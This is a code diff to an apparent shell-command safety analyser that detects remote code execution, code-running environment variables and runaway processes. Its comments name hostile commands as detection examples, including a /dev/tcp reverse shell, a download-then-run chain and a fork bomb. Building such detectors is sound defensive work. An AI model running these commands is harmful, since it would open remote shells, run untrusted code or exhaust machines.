@@ -12,13 +12,20 @@ from __future__ import annotations
 import base64
 import binascii
 
-from clearance.shellparse.classifier import UNKNOWN_CWD, Classifier, Nested
+from clearance.shellparse.classifier import (
+    NETWORK_FILES,
+    PATH_CHANGED,
+    UNKNOWN_CWD,
+    Classifier,
+    Nested,
+)
 from clearance.shellparse.errors import ShellSyntaxError
 from clearance.shellparse.expand import (
     BRACE,
     DYNAMIC,
     GLOB,
     INVALID,
+    RESOLVED,
     TILDE,
     TRUNCATED,
     Env,
@@ -26,7 +33,11 @@ from clearance.shellparse.expand import (
     word_text,
 )
 from clearance.shellparse.facts import RedirectFact, SimpleCommandFacts
-from clearance.shellparse.knowledge import COMMAND_STRING_VARIABLES, DANGEROUS_VARIABLES
+from clearance.shellparse.knowledge import (
+    BUILD_DEFINITIONS,
+    COMMAND_STRING_VARIABLES,
+    DANGEROUS_VARIABLES,
+)
 from clearance.shellparse.lexer import parse_script
 from clearance.shellparse.nodes import (
     AnsiCQuoted,
@@ -69,6 +80,12 @@ if TYPE_CHECKING:
 MAX_UNWRAP = 12
 
 _SHELLS = frozenset(("sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "busybox", "fish"))
+#: Variables whose value the shell expands each time it uses them (PS4 before every traced
+#: command): a ``$(…)`` in the value is a command that runs then.
+_EXPANDED_VARIABLES = frozenset(("PS1", "PS2", "PS4"))
+#: Programs that run their arguments (or a file they name) as code: fed by a substitution
+#: that fetched from the network, they run code from the network.
+_CODE_RUNNERS = _SHELLS | {"eval", "source", ".", "exec"}
 _WRITE_OPS = {">": "write", ">|": "write", "&>": "write", ">>": "append", "&>>": "append"}
 
 
@@ -112,6 +129,13 @@ class Extractor:
         self.classifier = Classifier(workspace, home)
         self.out: list[SimpleCommandFacts] = []
         self.functions: set[str] = set()
+        #: Files a network command wrote earlier on the line (``curl -o x.sh … && sh x.sh``).
+        self.downloaded: set[str] = set()
+        #: Build definitions written earlier on the line (``echo … > Makefile && make``).
+        self.rewritten_builds: set[str] = set()
+        #: The output of command substitutions whose output is known text (``$(echo rm)``),
+        #: by the id of their node.
+        self.outputs: dict[int, str] = {}
 
     # --- structure -----------------------------------------------------------------------
 
@@ -124,11 +148,13 @@ class Extractor:
             for pipeline in statement.and_or.pipelines:
                 self.pipeline(pipeline, env, inner)
 
-    def pipeline(self, pipeline: Pipeline, env: Env, scope: Scope) -> None:
+    def pipeline(self, pipeline: Pipeline, env: Env, scope: Scope) -> str | None:
+        """Walk a pipeline; return what it writes when that is known text."""
         commands = pipeline.commands
         if len(commands) == 1:
+            start = len(self.out)
             self.command(commands[0], env, scope)
-            return
+            return _static_output(self.out[start:], scope.stdin_text)
         stdin_text: str | None = scope.stdin_text
         upstream_network = False
         for k, command in enumerate(commands):
@@ -144,6 +170,7 @@ class Extractor:
                         fact.classes.add("remote_code_exec")
             upstream_network = upstream_network or any("network" in f.classes for f in produced)
             stdin_text = _static_output(produced, stdin_text)
+        return stdin_text
 
     def command(self, command: Command, env: Env, scope: Scope) -> None:
         if isinstance(command, SimpleCommand):
@@ -255,7 +282,38 @@ class Extractor:
                 fact.context = [*fact.context, f"error: {error}"]
             self.out.append(fact)
             return
-        self.body(body.statements, env.copy(), inner)
+        statements = body.statements
+        if (
+            isinstance(part, CommandSubstitution)
+            and len(statements) == 1
+            and not statements[0].background
+            and len(statements[0].and_or.pipelines) == 1
+        ):
+            output = self.pipeline(statements[0].and_or.pipelines[0], env.copy(), inner)
+            if output is not None:
+                self.outputs[id(part)] = output
+            return
+        self.body(statements, env.copy(), inner)
+
+    def _static_word(self, word: Word) -> tuple[list[str], int] | None:
+        """The fields of a word that is one command substitution with known output
+        (``$(echo rm)``, ``"$(printf .env)"``): bash strips the trailing newlines and, when
+        unquoted, splits the rest at blanks."""
+        parts = word.parts
+        quoted = False
+        if len(parts) == 1 and isinstance(parts[0], DoubleQuoted):
+            parts = parts[0].parts
+            quoted = True
+        if len(parts) != 1 or not isinstance(parts[0], CommandSubstitution):
+            return None
+        output = self.outputs.get(id(parts[0]))
+        if output is None:
+            return None
+        text = output.rstrip("\n")
+        if quoted:
+            return [text], RESOLVED
+        flag = RESOLVED | (GLOB if any(c in text for c in "*?[") else 0)
+        return text.split(), flag
 
     def _cond(self, command: Cond, env: Env, scope: Scope) -> None:
         argv = ["[["]
@@ -310,22 +368,44 @@ class Extractor:
     def simple(self, command: SimpleCommand, env: Env, scope: Scope) -> None:
         for assignment in command.assignments:
             self._assignment_words(assignment, env, scope)
-        for word in command.words:
+        # Substitutions run first; remember whether one fetched from the network, and whether
+        # it fed the program's name (``$(curl …)``) or its arguments.
+        fetched_program = fetched_args = False
+        for k, word in enumerate(command.words):
+            start = len(self.out)
             self.word(word, env, scope)
+            if any("network" in f.classes for f in self.out[start:]):
+                fetched_program = fetched_program or k == 0
+                fetched_args = True
         for redirect in command.redirects:
+            start = len(self.out)
             self.word(redirect.target, env, scope)
             if redirect.heredoc is not None:
                 hd_scope = scope.derive(span=scope.span or (redirect.start, redirect.end, ""))
                 self.parts(redirect.heredoc.parts, env, hd_scope, None)
+            if redirect.fd in (None, "0") and redirect.op in ("<", "<<<", "<<", "<<-"):
+                fetched_args = fetched_args or any("network" in f.classes for f in self.out[start:])
 
         argv: list[str] = []
         flags: list[int] = []
+        # After ``IFS=…`` the fields a variable splits into are not those the analysis
+        # would compute: a variable's value is then as unknown as the variable.
+        unsplit = DYNAMIC if "IFS" in env.vars else 0
         for word in command.words:
-            fields, flag = expand_word(word, env)
+            static = self._static_word(word)
+            fields, flag = static if static is not None else expand_word(word, env)
+            if flag & RESOLVED:
+                flag |= unsplit
             argv.extend(fields)
             flags.extend([flag] * len(fields))
 
         if argv and not flags[0] & DYNAMIC and argv[0] in self.functions:
+            if f"function:{argv[0]}" in scope.context:
+                # a function calling itself: unbounded processes (``:(){ :|:& };:``)
+                fact = self._new_fact(argv, command, scope, None)
+                fact.program = fact.program_raw = argv[0]
+                fact.classes.add("process_control")
+                self.out.append(fact)
             return  # a call of a function defined above: its body was analysed there
 
         fact = self._new_fact(argv, command, scope, None)
@@ -347,7 +427,19 @@ class Extractor:
             self.out.append(fact)
             return
         self.emit(fact, argv, flags, env, scope, stdin_text)
-        _builtin_effects(fact, argv, flags, env, self.home)
+        runs_code = (
+            fact.program in _CODE_RUNNERS
+            or "code_exec" in fact.classes
+            or "stdin_code" in fact.markers
+        )
+        connected = any(
+            r.target is not None and r.target.startswith(NETWORK_FILES) for r in fact.redirects
+        )
+        if fetched_program or ((fetched_args or connected) and runs_code):
+            # code from the network: a fetch feeding it, or a shell wired to a socket
+            # (``bash -i >& /dev/tcp/host/port 0>&1``)
+            fact.classes.update(("code_exec", "remote_code_exec"))
+        _builtin_effects(fact, argv, flags, env, env.home)
 
     def emit(
         self,
@@ -363,10 +455,28 @@ class Extractor:
         _flag_markers(fact, flags)
         nested = self.classifier.classify(fact, argv, flags, env, module)
         self.out.append(fact)
+        self._downloads(fact)
         if "stdin_code" in fact.markers and stdin_text is not None and fact.program in _SHELLS:
             nested.append(Nested(f"{fact.program} < stdin", shell=stdin_text))
         for request in nested:
             self._nested(fact, request, env, scope)
+
+    def _downloads(self, fact: SimpleCommandFacts) -> None:
+        """Track what the line writes that later commands run: a download executed
+        (``curl -o x.sh … && sh x.sh``), a build definition rewritten before a build
+        (``echo … > Makefile && make``)."""
+        for path in fact.paths:
+            if path.resolved is None:
+                continue
+            if path.access == "write":
+                if "network" in fact.classes:
+                    self.downloaded.add(path.resolved)
+                if path.resolved.rsplit("/", 1)[-1] in BUILD_DEFINITIONS:
+                    self.rewritten_builds.add(path.resolved)
+            elif path.access == "exec" and path.resolved in self.downloaded:
+                fact.classes.update(("code_exec", "remote_code_exec"))
+        if self.rewritten_builds and fact.classes & {"build", "test"}:
+            fact.classes.add("code_exec")
 
     def _nested(self, fact: SimpleCommandFacts, request: Nested, env: Env, scope: Scope) -> None:
         if scope.depth + 1 > MAX_UNWRAP:
@@ -378,6 +488,8 @@ class Extractor:
             span=(fact.start, fact.end, fact.text),
             redirects=(),
         )
+        if request.markers:
+            inner = inner.derive(markers=inner.markers | frozenset(request.markers))
         if request.context is not None:
             inner = inner.with_context(request.context)
             if request.context.startswith("remote"):
@@ -435,13 +547,22 @@ class Extractor:
             name = assignment.name
             value = None
             if assignment.value is not None and assignment.subscript is None:
-                text, flag = word_text(assignment.value, env)
+                static = self._static_word(assignment.value)
+                text, flag = (
+                    (" ".join(static[0]), 0)
+                    if static is not None
+                    else word_text(assignment.value, env)
+                )
                 if not flag & (DYNAMIC | GLOB):
                     value = env.vars.get(name, "") + text if assignment.append else text
             if value is None:
                 env.vars.pop(name, None)
             else:
                 env.vars[name] = value
+            if name == "HOME":
+                # ``~`` and a bare ``cd`` now go there; an unknown value leaves them unknown
+                # (a ``$`` in a path makes it unresolvable)
+                env.home = value if value else "${HOME}"
             self._dangerous_assignment(assignment, env, fact, scope, persistent=True)
 
     def _dangerous_assignment(
@@ -455,14 +576,23 @@ class Extractor:
         name = assignment.name
         if name == "PATH":
             fact.markers.add("path_modified")
+            if persistent:
+                env.vars[PATH_CHANGED] = "1"
         if name not in DANGEROUS_VARIABLES:
             return
         fact.markers.add("env_code")
         fact.classes.add("code_exec")
         if name in COMMAND_STRING_VARIABLES and assignment.value is not None:
             text, flag = word_text(assignment.value, env)
+            text = text.strip().lstrip("|")  # LESSOPEN='|cmd %s': the leading bar is syntax
             if not flag & DYNAMIC and text:
                 self._nested(fact, Nested(f"${name}", shell=text), env, scope)
+        elif name in _EXPANDED_VARIABLES and assignment.value is not None:
+            # expanded again each time it is used: the substitutions in it run then
+            text, flag = word_text(assignment.value, env)
+            if not flag & DYNAMIC and "$" in text:
+                quoted = '"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"'
+                self._nested(fact, Nested(f"${name}", shell=": " + quoted), env, scope)
         if persistent:
             env.vars.setdefault("__CLEARANCE_ENV_CODE__", name)
 
@@ -584,7 +714,7 @@ def _static_output(produced: list[SimpleCommandFacts], stdin_text: str | None) -
             words = words[1:]
         return " ".join(words) + ("\n" if newline else "")
     if program == "printf" and len(argv) >= 2:
-        return argv[1] if "%" not in argv[1] else " ".join(argv[2:])
+        return _printf(argv[1], argv[2:])
     if stdin_text is None:
         return None
     if program == "cat" and len(argv) == 1:
@@ -606,12 +736,67 @@ def _static_output(produced: list[SimpleCommandFacts], stdin_text: str | None) -
     return None
 
 
+_ESCAPES = {"n": "\n", "t": "\t", "r": "\r", "\\": "\\", "a": "\a", "b": "\b", "e": "\x1b"}
+
+
+def _unescape(text: str) -> str:
+    """printf's backslash escapes: ``\\n``, ``\\t``, ``\\xHH``, ``\\NNN`` (octal)."""
+    out: list[str] = []
+    i = 0
+    while i < len(text):
+        ch = text[i]
+        if ch != "\\" or i + 1 == len(text):
+            out.append(ch)
+            i += 1
+            continue
+        nxt = text[i + 1]
+        if nxt in _ESCAPES:
+            out.append(_ESCAPES[nxt])
+            i += 2
+        elif nxt == "x":
+            digits = "".join(c for c in text[i + 2 : i + 4] if c in "0123456789abcdefABCDEF")
+            out.append(chr(int(digits, 16)) if digits else "\\x")
+            i += 2 + len(digits)
+        elif nxt in "01234567":
+            digits = "".join(c for c in text[i + 1 : i + 4] if c in "01234567")
+            out.append(chr(int(digits, 8)))
+            i += 1 + len(digits)
+        else:
+            out.append(ch + nxt)
+            i += 2
+    return "".join(out)
+
+
+def _printf(template: str, args: list[str]) -> str | None:
+    """What ``printf TEMPLATE ARGS…`` writes, for ``%s``/``%b``/``%%`` templates (the
+    template is reused while arguments remain, as printf does); ``None`` for others."""
+    body = template.replace("%%", "\0")
+    specs = [piece[:1] for piece in body.split("%")[1:]]
+    if any(spec not in ("s", "b") for spec in specs):
+        return None
+    out: list[str] = []
+    queue = list(args)
+    for _ in range(64):
+        text = _unescape(body)
+        at = text.find("%")
+        while at >= 0:
+            value = queue.pop(0) if queue else ""
+            if text[at + 1] == "b":
+                value = _unescape(value)
+            text = text[:at] + value + text[at + 2 :]
+            at = text.find("%", at + len(value))
+        out.append(text.replace("\0", "%"))
+        if not queue or not specs:
+            break
+    return "".join(out)
+
+
 def _forget_changes(env: Env, before: Env, after: Env) -> None:
     """After a branch or loop, what it may have changed is unknown."""
     for name in set(after.vars) | set(before.vars):
         if after.vars.get(name) != before.vars.get(name):
             env.vars.pop(name, None)
-            if name in ("PATH", "__CLEARANCE_ENV_CODE__"):
+            if name in ("PATH", PATH_CHANGED, "__CLEARANCE_ENV_CODE__"):
                 env.vars[name] = after.vars.get(name) or before.vars.get(name) or ""
     if after.cwd != before.cwd:
         env.cwd = None
@@ -625,7 +810,7 @@ def _builtin_effects(
     if program in ("cd", "pushd"):
         operands = [a for a in argv[1:] if not a.startswith("-") or a == "-"]
         if not operands:
-            env.cwd = home if program == "cd" else None
+            env.cwd = home if program == "cd" and "$" not in home else None
         elif operands[0] == "-" or any(f & (DYNAMIC | GLOB) for f in flags[1:]):
             env.cwd = None
         else:
@@ -643,6 +828,7 @@ def _builtin_effects(
                 env.vars[name] = text
             if name == "PATH":
                 fact.markers.add("path_modified")
+                env.vars[PATH_CHANGED] = "1"
             if name in DANGEROUS_VARIABLES:
                 fact.markers.add("env_code")
                 fact.classes.add("code_exec")
